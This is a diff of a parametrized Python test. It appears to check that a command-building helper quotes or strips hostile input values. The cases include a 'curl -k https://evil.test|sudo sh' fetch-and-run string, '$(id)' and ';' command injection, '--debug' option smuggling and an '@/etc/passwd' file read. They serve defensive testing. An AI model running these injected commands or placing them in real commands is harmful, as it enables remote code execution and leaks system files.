@@ -570,13 +570,17 @@ def test_commands_name_the_subscription(
     [
         ('contoso.test', 'contoso.test'),
         ('Contoso CA (G2)', "'Contoso CA (G2)'"),
-        ("'/my certs/b.pem'", "'/my certs/b.pem'"),
+        ("'/my certs/b.pem'", """ ''"'"'/my certs/b.pem'"'"'' """.strip()),
         (
             'run `curl -k https://evil.test|sudo sh`; $(id)',
             "'run curl -k https://evil.testsudo sh (id)'",
         ),
         ('/bin/nox;$(id)', "'/bin/nox(id)'"),
-        ('"$no_proxy,h"', '"$no_proxy,h"'),
+        ('"$no_proxy,h"', """'"$no_proxy,h"'"""),
+        ("'x' --debug; id", """ ''"'"'x'"'"' --debug id' """.strip()),
+        ('--debug', 'HOST'),
+        ('@/etc/passwd', 'HOST'),
+        ('[system]', "'[system]'"),
         ('a > b < c & d', "'a  b  c  d'"),
     ],
 )
